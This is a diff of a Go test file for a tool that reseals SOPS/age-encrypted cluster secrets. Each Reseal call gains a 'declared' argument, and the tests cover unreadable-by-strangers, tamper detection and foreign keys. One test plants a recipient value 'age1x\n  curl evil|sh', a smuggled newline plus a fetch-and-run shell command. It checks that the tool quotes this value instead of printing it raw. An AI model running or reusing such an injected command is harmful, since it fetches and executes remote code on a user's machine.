@@ -172,7 +172,7 @@ func TestAStrangerInANamedReadersNameIsSeen(t *testing.T) {
 		} else if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
 			t.Errorf("%s: without a key, sealed for others: %q, %v", what, names, err)
 		}
-		r, err := cluster.Reseal(own, rand.Reader, now)
+		r, err := cluster.Reseal(declared, own, rand.Reader, now)
 		if err != nil || strings.Join(r.Removed, "") != named || strings.Join(r.Anew, "") != "mlflow.flask-key" {
 			t.Errorf("%s: %+v, %v", what, r, err)
 		}
@@ -182,7 +182,7 @@ func TestAStrangerInANamedReadersNameIsSeen(t *testing.T) {
 		if got, err := open([]byte(get(t, dir, flask)), evil); err == nil {
 			t.Errorf("%s: the stranger reads %q", what, got)
 		}
-		if r, err = cluster.Reseal(own, rand.Reader, now); err != nil || len(r.Unchanged) != 2 {
+		if r, err = cluster.Reseal(declared, own, rand.Reader, now); err != nil || len(r.Unchanged) != 2 {
 			t.Errorf("%s: again: %+v, %v", what, r, err)
 		}
 	}
@@ -200,7 +200,7 @@ func TestOneReaderMoreLeavesNoStranger(t *testing.T) {
 	o.SOPS.Age[1].Enc = mustSeal(t, key, evil)
 	reseal(t, dir, flask, o.SOPS.Age)
 	cluster.Recipients = append(cluster.Recipients, third.Recipient().String())
-	if _, err := cluster.Reseal(keysOf(t, first), rand.Reader, now); err != nil {
+	if _, err := cluster.Reseal(declared, keysOf(t, first), rand.Reader, now); err != nil {
 		t.Fatal(err)
 	}
 	mustOpen(t, dir, flask, second)
@@ -218,7 +218,7 @@ func TestOwnersOfOtherKeysAreReaders(t *testing.T) {
 		if names, err := cluster.SealedForOthers(); err != nil || strings.Join(names, "") != "mlflow.flask-key" {
 			t.Errorf("%s: sealed for others: %q, %v", others, names, err)
 		}
-		_, err := cluster.Reseal(keysOf(t, owner), rand.Reader, now)
+		_, err := cluster.Reseal(declared, keysOf(t, owner), rand.Reader, now)
 		wantProblems(t, err, []string{flask + " is encrypted for other keys than age's, too"}, "sops updatekeys")
 	}
 	put(t, dir, flask, strings.Replace(before, "sops:\n", "sops:\n    kms: []\n    shamir_threshold: 0\n", 1))
@@ -233,7 +233,7 @@ func TestWhatWasChangedIsSealedForNobodyElse(t *testing.T) {
 	tampered := strings.Replace(get(t, dir, flask), "type: Opaque", "type: Other", 1)
 	put(t, dir, flask, tampered)
 	cluster.Recipients = append(cluster.Recipients, second.Recipient().String())
-	_, err := cluster.Reseal(keysOf(t, first), rand.Reader, now)
+	_, err := cluster.Reseal(declared, keysOf(t, first), rand.Reader, now)
 	wantProblems(t, err, []string{flask + ": it was changed after it was encrypted"}, "take it back from Git")
 	if get(t, dir, flask) != tampered {
 		t.Error("the file changed")
@@ -245,7 +245,7 @@ func TestARecipientThatIsNoKeyIsQuoted(t *testing.T) {
 	dir, owner := t.TempDir(), identity(t)
 	cluster := clusterFor(t, dir, owner)
 	reseal(t, dir, flask, append(mustObject(t, get(t, dir, flask)).SOPS.Age, sealedKey{"age1x\n  curl evil|sh", "x"}))
-	_, err := cluster.Reseal(keysOf(t, identity(t)), rand.Reader, now)
+	_, err := cluster.Reseal(declared, keysOf(t, identity(t)), rand.Reader, now)
 	if p := (*Problem)(nil); !errors.As(err, &p) || strings.Contains(p.Fix, "\n  curl") || !strings.Contains(p.Fix, `"age1x\n  curl evil|sh"`) {
 		t.Errorf("%+v", p)
 	}
